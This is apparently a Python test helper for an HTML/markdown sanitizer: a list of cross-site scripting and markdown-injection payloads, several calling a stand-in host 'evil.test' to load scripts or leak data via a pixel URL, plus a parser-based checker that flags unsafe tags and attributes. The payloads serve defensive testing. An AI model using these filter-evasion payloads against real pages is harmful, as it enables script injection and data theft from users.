"""Text that tries to act in a page, and a checker that parses what became of it."""

from __future__ import annotations

import re
from html.parser import HTMLParser

_RTL, _NUL = "\u202e", "\x00"
PAYLOADS = [
    "<script>hits++</script>",
    "<ScRiPt >hits++</sCrIpT>",
    "<script src=//evil.test/x.js></script>",
    "<scr<script>ipt>hits++</script>",
    "<img src=x onerror=hits++>",
    "<img src=x onerror='hits++'//>",
    "<img/src=x/onerror=hits++>",
    "<svg onload=hits++>",
    "<svg><script>hits++</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hits++>",
    "<iframe src=javascript:hits++></iframe>",
    "<iframe srcdoc='<script>parent.hits++</script>'></iframe>",
    "<object data=javascript:hits++></object>",
    "<embed src=javascript:hits++>",
    "<form action=//evil.test><input name=p><button>Go</button></form>",
    "<a href=javascript:hits++>x</a>",
    "<details open ontoggle=hits++>x</details>",
    "<style>@import '//evil.test/x.css'; body{display:none}</style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<div style='position:fixed;inset:0;background:url(//evil.test/x)'>x</div>",
    "<video poster=//evil.test/x src=//evil.test/y></video>",
    "<button data-commandlinker-command='x' data-commandlinker-args='{}'>x</button>",
    "<template><script>hits++</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hits++>'>",
    "</div></details><script>hits++</script>",
    "--><script>hits++</script><!--",
    "]]><script>hits++</script>",
    "</code></pre><script>hits++</script>",
    '"><script>hits++</script>',
    "'\"><img src=x onerror=hits++>",
    "![x](//evil.test/pixel.png)",
    "![x](http://evil.test/pixel.png?d=secret)",
    "![x](javascript:hits++)",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aGl0cysrPg==)",
    "[x](javascript:hits++)",
    "[x](JaVaScRiPt:hits++)",
    "[x](java&#115;cript:hits++)",
    "[x](javascript\\:hits++)",
    "[x](java\tscript:hits++)",
    "[x](&#x6A;avascript:hits++)",
    "[x](<javascript:hits++>)",
    "[x](\njavascript:hits++)",
    "[x](vbscript:hits++)",
    "[x](data:text/html,<script>hits++</script>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.test)",
    '[x](http://a.test "onmouseover=hits++")',
    '[x](http://a.test" onclick="hits++)',
    "[x]: javascript:hits++\n\n[x]",
    "[x]:\njavascript:hits++\n\n[x]",
    "![x][y]\n\n[y]: http://evil.test/pixel.png",
    "<javascript:hits++>",
    '<http://a.test/"onclick=hits++>',
    '```"><script>hits++</script>\nx\n```',
    "``` <img src=x onerror=hits++>\n</code><script>hits++</script>\n```",
    "- ```\n<script>hits++</script>",
    "~~~\n```\n~~~\n<script>hits++</script>\n```",
    "> ```\n<img src=x onerror=hits++>",
    "`` ` <script>hits++</script>",
    "`<script>hits++</script>",
    "$\\href{javascript:hits++}{x}$",
    "$<img src=x onerror=hits++>$",
    "\\(<script>hits++</script>\\)",
    f"<script{_NUL}>hits++</script>",
    f"{_RTL}<script>hits++</script>",
    "&lt;script&gt;hits++&lt;/script&gt;",
    "&amp;lt;img src=x onerror=hits++&amp;gt;",
    "\ud800<script>hits++</script>",
    "| <script>hits++</script> |\n|---|\n| <img src=x onerror=hits++> |",
    "# <img src=x onerror=hits++>",
    "\x1b]8;;javascript:hits++\x07x\x1b]8;;\x07",
    "<xmp><script>hits++</script></xmp>",
    "<plaintext>",
    "<textarea><script>hits++</script></textarea>",
    "<!DOCTYPE x [<!ENTITY y '<script>hits++</script>'>]>&y;",
    "<?php hits++ ?><script>hits++</script>",
    "<a id=x name=y class='jp-Dialog' role=dialog>x</a>",
    "{{7*7}}${hits++}<%= hits++ %>",
]

# fmt: off
_TAGS = {
    "a", "blockquote", "br", "code", "del", "details", "div", "em", "h1", "h2",
    "h3", "h4", "h5", "h6", "hr", "i", "img", "li", "ol", "p", "pre",
    "s", "section", "span", "strong", "summary", "table", "tbody", "td", "th", "thead",
    "tr", "ul",
}
# fmt: on
_ATTRIBUTES = {
    "class",
    "style",
    "href",
    "src",
    "alt",
    "title",
    "rel",
    "target",
    "dir",
    "start",
    "open",
    "tabindex",
    "data-status",
    "data-tool",
    "data-tool-call-id",
    "data-severity",
    "data-code",
    "data-live",
    "data-decision",
}  # fmt: skip
_WORDS = {"jp-RenderedHTMLCommon", *"kscnfar"}
_STYLE = re.compile(r"[a-z-]+:\s*[\w#%.,()\s-]+")


class Checker(HTMLParser):
    """Collects what in a page could act: ``problems`` is empty for safe HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        self.tags.append((tag, values))
        if tag not in _TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in values.items():
            if not self._is_safe(name, value):
                self.problems.append(f"<{tag} {name}={value!r}>")

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"<?{data}>")

    def _is_safe(self, name: str, value: str) -> bool:
        if name == "href":
            return bool(re.match(r"(https?|mailto):", value, re.IGNORECASE))
        if name == "src":
            return bool(re.match(r"data:image/(png|jpeg|gif|webp);base64,[\w+/=]*$", value))
        if name == "style":
            return "url" not in value and all(
                _STYLE.fullmatch(part.strip()) for part in value.split(";") if part.strip()
            )
        if name == "class":
            return all(
                word.startswith(("smn-", "mathjax_")) or word in _WORDS for word in value.split()
            )
        return name in _ATTRIBUTES


def problems(html: str) -> list[str]:
    """What in this HTML could act."""
    checker = Checker()
    checker.feed(html)
    checker.close()
    return checker.problems


def tags(html: str) -> list[tuple[str, dict[str, str]]]:
    """The tags with their attributes, in order."""
    checker = Checker()
    checker.feed(html)
    return checker.tags


def marked(html: str, mark: str, **data: str) -> list[dict[str, str]]:
    """The attributes of the elements of class ``mark`` with these ``data-`` values."""
    wanted = {f"data-{key.replace('_', '-')}": value for key, value in data.items()}
    return [
        attributes
        for _, attributes in tags(html)
        if mark in attributes.get("class", "").split() and wanted.items() <= attributes.items()
    ]
